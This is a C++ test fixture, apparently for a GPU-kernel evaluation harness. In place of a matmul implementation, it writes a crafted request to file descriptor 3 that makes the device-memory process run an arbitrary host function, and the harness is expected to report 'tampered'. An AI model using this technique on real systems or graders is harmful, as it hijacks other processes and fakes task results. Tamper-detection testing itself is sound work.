// Exploit: asks the process that has device memory to run any function, by a request of its own
// Holds: without a sandbox
// Tests: MatmulShared.IsRightWhenTheTileDividesN
// Says: tampered

#include <stdint.h>
#include <string.h>
#include <unistd.h>

#include "matmul_shared.hpp"

static void multiply(void*) { _exit(42); }

cudaError_t matmul_shared(const float*, const float*, float*, int, int) {
  // common/simt/runtime/remote_device.hpp: a launch of what is no kernel.
  static const char name[] = "kernel";
  unsigned char request[104] = {};
  const uint32_t head[] = {0x57544344, 9};
  const uint64_t bytes = 8, kernel = uint64_t(name), run = uint64_t(&multiply);
  memcpy(request, head, sizeof head);
  memcpy(request + 24, &bytes, 8);
  memcpy(request + 40, &kernel, 8);
  memcpy(request + 48, &kernel, 8);
  memcpy(request + 56, &run, 8);
  for (int i = 0; i < 6; ++i) memset(request + 72 + 4 * i, 1, 1);
  static_cast<void>(!write(3, request, 96));
  static_cast<void>(!write(3, request, 8));
  pause();
  return cudaSuccess;
}
